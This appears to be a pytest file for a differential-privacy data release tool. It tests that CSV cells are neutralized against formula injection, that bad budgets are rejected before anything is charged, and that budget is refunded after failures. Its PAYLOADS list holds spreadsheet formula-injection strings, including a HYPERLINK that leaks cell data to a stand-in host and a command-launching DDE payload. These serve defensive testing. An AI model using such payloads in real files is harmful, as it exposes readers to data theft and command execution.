"""Hostile input and careless users: one clear error, no budget spent on a failure, outputs that
cannot attack their reader."""

from __future__ import annotations

import csv
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

from safeshare.cli import main
from safeshare.dp.ledger import Ledger
from safeshare.release.output import FORMULA_START

PAYLOADS = ['=HYPERLINK("http://evil.example/?leak="&A2,"x")', "+cmd|' /C calc'!A0", "@SUM(1+1)"]


def _spends(path: Path) -> int:
    return sum(s.releases for s in Ledger(path).datasets()) if path.exists() else 0


@pytest.fixture(scope="module")
def hostile_csv(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Price tiers that matplotlib would parse as mathtext, a column named like Rich markup and
    one named like a formula, holding formulas."""
    rng = np.random.default_rng(0)
    rows = 3000
    frame = pd.DataFrame(
        {
            "price": rng.choice(["$", "$$", "$$$", r"$\frac$"], rows),
            "[/]": rng.choice([f"v{i}" for i in range(400)], rows),  # too rare: a warning names it
            PAYLOADS[0]: rng.choice(PAYLOADS, rows),
            "age": rng.integers(18, 90, rows),
        }
    )
    path = tmp_path_factory.mktemp("hostile") / "hostile.csv"
    frame.to_csv(path, index=False)
    return path


def test_a_hostile_table_releases_with_neutralized_cells(hostile_csv, tmp_path, capsys):
    out, ledger = tmp_path / "out", tmp_path / "ledger.sqlite"
    argv = ["release", str(hostile_csv), "--epsilon", "4", "--out", str(out), "--seed", "1"]
    code = main([*argv, "--ledger", str(ledger), "--quiet"])
    err = capsys.readouterr().err
    assert code == 0, err
    # --quiet drops the summary, not the warnings; this one names the column as it is
    assert "'[/]'" in err and "warning:" in err
    assert (out / "report.html").stat().st_size > 0
    with (out / "synthetic.csv").open(newline="", encoding="utf-8") as stream:
        cells = [cell for row in csv.reader(stream) for cell in row]
    formulas = [c for c in cells if c.startswith(FORMULA_START) and not _is_number(c)]
    assert formulas == []
    assert any(c.startswith("'=HYPERLINK") for c in cells)  # the header, neutralized
    assert {"$", "$$"} & set(cells)  # the price tiers were released as they are


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


@pytest.mark.parametrize(
    ("extra", "message"),
    [
        (["--epsilon", "3e-6"], "too small"),
        (["--epsilon", "1e308"], "protects no one"),
        (["--seed", "-1"], "--seed must be a whole number"),
    ],
)
def test_a_release_refuses_bad_budgets_before_the_ledger(extra, message, hostile_csv, tmp_path,
                                                         capsys):  # fmt: skip
    ledger = tmp_path / "ledger.sqlite"
    argv = ["release", str(hostile_csv), "--out", str(tmp_path / "o"), "--ledger", str(ledger)]
    code = main([*argv, *extra])
    err = capsys.readouterr().err
    assert code == 2 and err.startswith("error:") and message in err and "Traceback" not in err
    assert _spends(ledger) == 0 and not (tmp_path / "o").exists()


@pytest.mark.parametrize("failure", [OSError(28, "No space left on device"), KeyboardInterrupt()])
def test_a_machine_failure_after_the_spend_is_refunded(failure, fair_csv, tmp_path, monkeypatch,
                                                        capsys):  # fmt: skip
    from safeshare.release import pipeline

    def broken(*args: object, **kwargs: object) -> None:
        raise failure

    monkeypatch.setattr(pipeline, "write_release", broken)
    ledger = tmp_path / "ledger.sqlite"
    argv = ["release", str(fair_csv), "--out", str(tmp_path / "o"), "--ledger", str(ledger)]
    code = main([*argv, "--quiet"])
    err = capsys.readouterr().err
    assert code == (2 if isinstance(failure, OSError) else 130)
    assert "Traceback" not in err and _spends(ledger) == 0
    if isinstance(failure, OSError):
        assert "No space left on device" in err and "not charged" in err
    assert not (tmp_path / "o").exists()


@pytest.mark.parametrize(
    ("extra", "message"),
    [
        (["--port", "70000"], "is not a TCP port"),
        (["--host", "0.0.0.0"], "pass --allow-remote"),
        (["--host", "0.0.0.0", "--allow-remote", "--token-env", "NO_SUCH_VARIABLE"], "not set"),
    ],
)
def test_the_server_refuses_a_port_or_an_open_host_before_it_loads(extra, message, capsys):
    code = main(["obfuscate", "serve", *extra])
    err = capsys.readouterr().err
    assert code == 2 and err.startswith("error:") and message in err and "Traceback" not in err
